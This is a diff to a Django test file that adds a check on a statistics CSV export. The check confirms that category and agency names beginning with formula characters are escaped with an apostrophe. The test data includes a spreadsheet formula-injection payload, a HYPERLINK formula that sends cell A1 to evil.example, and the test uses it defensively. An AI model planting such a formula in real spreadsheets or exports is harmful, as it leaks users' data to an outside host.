@@ -25,6 +25,7 @@ pytestmark = pytest.mark.django_db
 
 WIB = zoneinfo.ZoneInfo("Asia/Jakarta")
 TODAY = datetime.date(2025, 12, 31)
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 
 
 def at(day, hour=9):
@@ -192,6 +193,17 @@ def test_statistics_csv_has_the_same_numbers(client, home_page, sample):
     assert total[:5] == ["2025", "jumlah", "Jumlah", "5", "3"]
     assert total[5] == "66.7"
     assert ["2025", "kategori", "Jalan rusak", "3", "2", "50.0", "5.0", "1"] in rows
+
+
+def test_statistics_csv_shows_formula_like_names_as_text(client, home_page, sample):
+    KategoriLaporan.objects.filter(slug="jalan-rusak").update(nama=HYPERLINK)
+    PerangkatDaerah.objects.filter(slug="dinas-pupr").update(nama="+Dinas PUPR")
+    page = create_elaga_page(home_page)
+    stats_url = page.url + page.reverse_subpage("statistics")
+    response = client.get(stats_url, {"tahun": "2025", "format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert ["2025", "kategori", "'" + HYPERLINK, "3", "2", "50.0", "5.0", "1"] in rows
+    assert "'+Dinas PUPR" in {row[2] for row in rows}
 
 
 def test_statistics_queries_stay_constant(
